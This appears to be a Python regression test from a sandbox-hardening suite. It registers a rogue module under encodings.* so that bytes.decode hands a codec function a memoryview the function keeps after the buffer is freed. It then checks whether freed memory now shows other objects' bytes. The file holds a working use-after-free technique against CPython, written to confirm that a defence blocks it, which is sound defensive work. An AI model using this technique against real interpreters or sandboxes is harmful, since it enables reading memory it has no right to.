# family: wall (memory: a module of the program's put in sys.modules as encodings.NAME, answered by the library's search function)   goal: memory   interpreter: /usr/bin/python3
# A sibling of the seventeenth round's ok_02: encodings.search_function imports
# "encodings." + the normalized name, and an import finds sys.modules first
# (no import event, nothing loaded); the program's module there answers a
# CodecInfo whose decode keeps PyUnicode_Decode's ownerless view. The wall: the
# library's search function is registered wrapped; decode gets a copy.
import sys
codecs = sys.modules["codecs"]
kept = []
def decode(data, errors="strict"):
    kept.append(data)
    return ("x", len(data))
mod = type(sys)("encodings.wall17mod")
mod.getregentry = lambda: codecs.CodecInfo(None, decode, name="wall17mod")
sys.modules["encodings.wall17mod"] = mod
b = bytes(b"A" * 100000)
b.decode("wall17mod")
view = kept[-1]
del b
keep = [b"SECRET!!" * 12400 for _ in range(3)]
seen = view.tobytes().count(b"SECRET!!")
if seen > 100:
    print("MEMORY-OVERWRITTEN: the kept view shows another object's bytes", seen, "times")
else:
    print("view:", view.tobytes()[:8], view.obj is None)
